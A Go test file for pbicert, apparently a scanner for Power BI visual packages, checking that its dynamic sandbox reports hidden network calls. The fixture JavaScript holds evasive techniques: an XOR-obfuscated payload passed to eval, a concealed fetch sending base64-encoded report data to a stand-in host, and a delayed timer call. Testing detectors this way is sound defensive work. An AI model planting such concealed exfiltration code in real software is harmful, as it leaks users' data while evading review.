package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/pbicert/pbicert/internal/gen"
)

// check --dynamic through the binary: pbicert re-executes itself as the
// sandbox's child; "dynamic: true" in .pbicert.yaml turns it on; text
// output marks the observed finding and shows its target.
func TestE2EDynamic(t *testing.T) {
	dir := t.TempDir()
	writeGenPkg(t, dir, "findings.pbiviz", gen.WithFindings())
	out, stderr, code := runIn(t, dir, "check", "--format", "json", "findings.pbiviz")
	if code != 1 || strings.Contains(out, `"dynamic"`) || strings.Contains(out, `"runtime"`) {
		t.Fatalf("without --dynamic: exit %d, stderr %q, dynamic fields present: %v", code, stderr, strings.Contains(out, `"dynamic"`))
	}
	if err := os.WriteFile(filepath.Join(dir, ".pbicert.yaml"), []byte("dynamic: true\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, stderr, code = runIn(t, dir, "check", "--format", "json", "findings.pbiviz")
	if code != 1 {
		t.Fatalf("exit %d, stderr %q", code, stderr)
	}
	var doc struct {
		Results []struct {
			Dynamic *struct {
				Completed []string
				Error     string
			}
			Findings []struct {
				Rule    string
				Runtime *struct {
					Phase, Target string
					ReportData    bool
				}
			}
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || len(doc.Results) != 1 {
		t.Fatalf("%v: %s", err, out)
	}
	r := doc.Results[0]
	if r.Dynamic == nil || r.Dynamic.Error != "" || len(r.Dynamic.Completed) != 6 {
		t.Fatalf("dynamic: %+v", r.Dynamic)
	}
	seen := false
	for _, f := range r.Findings {
		if f.Rule == "NET001" && f.Runtime != nil && f.Runtime.ReportData && strings.HasPrefix(f.Runtime.Target, "https://api.contoso.com/enrich?q=") {
			seen = true
		}
	}
	if !seen {
		t.Errorf("NET001 not observed with its target: %s", out)
	}
	text, _, _ := runIn(t, dir, "check", "findings.pbiviz")
	if !strings.Contains(text, "[observed at run time, update]") || !strings.Contains(text, "    target: https://api.contoso.com/enrich?q=") {
		t.Errorf("text output:\n%s", text)
	}
}

// The evasive forms static analysis cannot follow, end to end through the
// binary on a package our code generates: a payload decrypted by a loop
// and passed to eval, a function name assembled in a loop that sends a
// category value (base64-encoded) away, and a licence check started from
// a timer that calls a method it finds on the global object. Each is
// reported with its URL, key or code in JSON (findings and the requests
// the endpoint inventory reads), SARIF and text.
func TestE2EDynamicEvasive(t *testing.T) {
	payload := `fetch("https://payload.example.org/p?key=K9")`
	var codes []string
	for _, c := range []byte(payload) {
		codes = append(codes, strconv.Itoa(int(c^23)))
	}
	v := gen.Clean()
	v.VisualModule = `class Visual {
    constructor(options) { this.root = options.element; this.events = options.host.eventService; }
    update(options) {
        this.events.renderingStarted(options);
        const dv = options.dataViews[0];
        const k = [` + strings.Join(codes, ",") + `];
        let s = "";
        for (let i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 23);
        eval(s);
        let n = "";
        for (const c of ["f", "e", "t", "c", "h"]) n += c;
        window[n]("https://collect.example.com/c?d=" + btoa(String(dv.categorical.categories[0].values[0])));
        if (!this.started) {
            this.started = true;
            setTimeout(() => {
                const m = Object.getOwnPropertyNames(window).find(x => x.length === 5 && x.charCodeAt(0) === 102 && x.slice(1) === "etch");
                window[m]("https://lic.example.net/v2/verify?key=PBI-7781");
            }, 45000);
        }
        this.events.renderingFinished(options);
    }
}`
	dir := t.TempDir()
	writeGenPkg(t, dir, "evasive.pbiviz", v)
	out, stderr, code := runIn(t, dir, "check", "--dynamic", "--format", "json", "evasive.pbiviz")
	if code != 1 {
		t.Fatalf("exit %d, stderr %q", code, stderr)
	}
	type finding struct {
		Rule, Severity, Message string
		Runtime                 *struct {
			Phase, Target        string
			ReportData, Observed bool
		}
	}
	var doc struct {
		Results []struct {
			Findings []finding
			Dynamic  struct {
				Completed []string
				Error     string
				Requests  []map[string]any
			}
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || len(doc.Results) != 1 {
		t.Fatalf("%v: %s", err, out)
	}
	r := doc.Results[0]
	if len(r.Dynamic.Completed) != 6 || r.Dynamic.Error != "" {
		t.Fatalf("dynamic: %+v", r.Dynamic)
	}
	byTarget := map[string]finding{}
	for _, f := range r.Findings {
		if f.Runtime != nil {
			tg := f.Runtime.Target
			if strings.HasPrefix(tg, "https://collect.example.com/c?d=") {
				tg = "collect"
			}
			byTarget[f.Rule+" "+tg] = f
		}
	}
	// observed: 1 only the run found it, 0 the run confirmed a static
	// finding, -1 either (the static pass may resolve the form)
	check := func(key, phase string, reportData bool, observed int) {
		t.Helper()
		f, ok := byTarget[key]
		if !ok {
			t.Errorf("no finding observed with %s (have %v)", key, byTarget)
			return
		}
		if f.Runtime.Phase != phase || f.Runtime.ReportData != reportData || (observed >= 0 && f.Runtime.Observed != (observed == 1)) {
			t.Errorf("%s: runtime %+v", key, *f.Runtime)
		}
		if reportData && (f.Severity != "error" || !strings.Contains(f.Message, "sends report data") || !strings.Contains(f.Message, "collect.example.com")) {
			t.Errorf("%s: %s %q", key, f.Severity, f.Message)
		}
	}
	check("NET001 https://payload.example.org/p?key=K9", "update", false, 1)
	check("DYN001 "+payload, "update", false, 0)
	check("NET001 collect", "update", true, -1)
	check("NET001 https://lic.example.net/v2/verify?key=PBI-7781", "timer", false, 1)

	// results[].dynamic.requests: the documented fields, nothing else
	fields := map[string]bool{"url": true, "host": true, "method": true, "api": true, "rule": true, "phase": true, "reportData": true, "location": true}
	var urls []string
	for _, q := range r.Dynamic.Requests {
		for k := range q {
			if !fields[k] {
				t.Errorf("request field %q is not in the contract", k)
			}
		}
		u, _ := q["url"].(string)
		if strings.HasPrefix(u, "https://collect.example.com/") {
			u = "collect"
		}
		loc, _ := q["location"].(map[string]any)
		line, _ := loc["line"].(float64)
		urls = append(urls, fmt.Sprintf("%s %v %v %v %v %v", u, q["host"], q["method"], q["rule"], q["phase"], q["reportData"]))
		if line == 0 {
			t.Errorf("request without a call site: %v", q)
		}
	}
	want := "https://payload.example.org/p?key=K9 payload.example.org GET NET001 update <nil>\n" +
		"collect collect.example.com GET NET001 update true\n" +
		"https://lic.example.net/v2/verify?key=PBI-7781 lic.example.net GET NET001 timer <nil>"
	if got := strings.Join(urls, "\n"); got != want {
		t.Errorf("requests:\n%s\nwant\n%s", got, want)
	}

	sarif, _, _ := runIn(t, dir, "check", "--dynamic", "--format", "sarif", "evasive.pbiviz")
	for _, w := range []string{`"target": "https://lic.example.net/v2/verify?key=PBI-7781"`, `"reportData": true`, `"phase": "timer"`} {
		if !strings.Contains(sarif, w) {
			t.Errorf("SARIF lacks %s", w)
		}
	}
	text, _, _ := runIn(t, dir, "check", "--dynamic", "evasive.pbiviz")
	for _, w := range []string{"[observed at run time, timer]", "    target: https://lic.example.net/v2/verify?key=PBI-7781", "sends report data (values of the data view) to collect.example.com"} {
		if !strings.Contains(text, w) {
			t.Errorf("text output lacks %q:\n%s", w, text)
		}
	}
}
